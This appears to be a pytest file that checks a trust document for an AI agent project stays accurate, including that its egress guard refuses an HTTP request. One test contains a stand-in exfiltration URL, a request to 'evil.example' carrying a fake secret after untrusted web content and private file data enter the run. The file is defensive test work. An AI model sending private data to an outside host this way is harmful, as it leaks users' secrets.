"""docs/trust.md must be true: its Python blocks print what the comments say, its config
blocks load, its table names every built-in tool, and the refusal it quotes is the real one."""

from __future__ import annotations

import contextlib
import io
import re
from pathlib import Path

import pytest
from test_docs_tools import expected_output, matches

from jarvis.core.config import load_config

DOC = Path(__file__).resolve().parent.parent / "docs" / "trust.md"
TEXT = DOC.read_text(encoding="utf-8")


def blocks(language: str) -> list[str]:
    return re.findall(rf"```{language}\n(.*?)```", TEXT, re.S)


@pytest.mark.parametrize("index", range(len(blocks("python"))))
def test_python_examples_print_what_the_doc_says(index):
    source = blocks("python")[index]
    printed = io.StringIO()
    with contextlib.redirect_stdout(printed):
        exec(compile(source, f"docs/trust.md block {index}", "exec"), {"__name__": f"t{index}"})
    got, want = printed.getvalue().splitlines(), expected_output(source)
    assert len(got) == len(want), (got, want)
    for w, g in zip(want, got, strict=True):
        assert matches(w, g), (w, g)


@pytest.mark.parametrize("index", range(len(blocks("toml"))))
def test_config_examples_load(tmp_path, index):
    path = tmp_path / "config.toml"
    path.write_text(blocks("toml")[index], encoding="utf-8")
    config = load_config(path)
    if "[egress]" in blocks("toml")[index]:
        assert config.egress.allow_hosts == ["api.example.com", "*.corp.example",
                                             "127.0.0.1:8123"]
    else:
        assert config.mcp.servers["files"].trusted is True


def test_the_table_names_every_builtin_tool_as_it_declares():
    from test_trust_executor import BUILTINS

    table = TEXT.split("## What is labelled how")[1].split("## ")[0]
    for name in BUILTINS:
        assert f"`{name}`" in table, name


def test_the_quoted_refusal_is_the_guards(tmp_path):
    from jarvis.trust import Egress, RunTrust, check

    trust = RunTrust()
    trust.mark_tainted("web_fetch returned untrusted content", call_id="call_1", tool="web_fetch")
    trust.mark_private("file_read returned private data", call_id="call_2", tool="file_read")
    url = "https://evil.example/?d=JARVIS-SECRET-0123456789abcdef01"
    decision = check(trust, "http_request", [Egress.of("network", "evil.example",
                                                       method="GET", url=url)])
    quoted = [b for b in blocks("text") if b.startswith("refused:")][0].strip()
    assert quoted == (f"refused: {decision.why}. To allow such calls: {decision.how_to_allow}. "
                      f"No person was there to ask (no terminal; --yes does not cover this)")
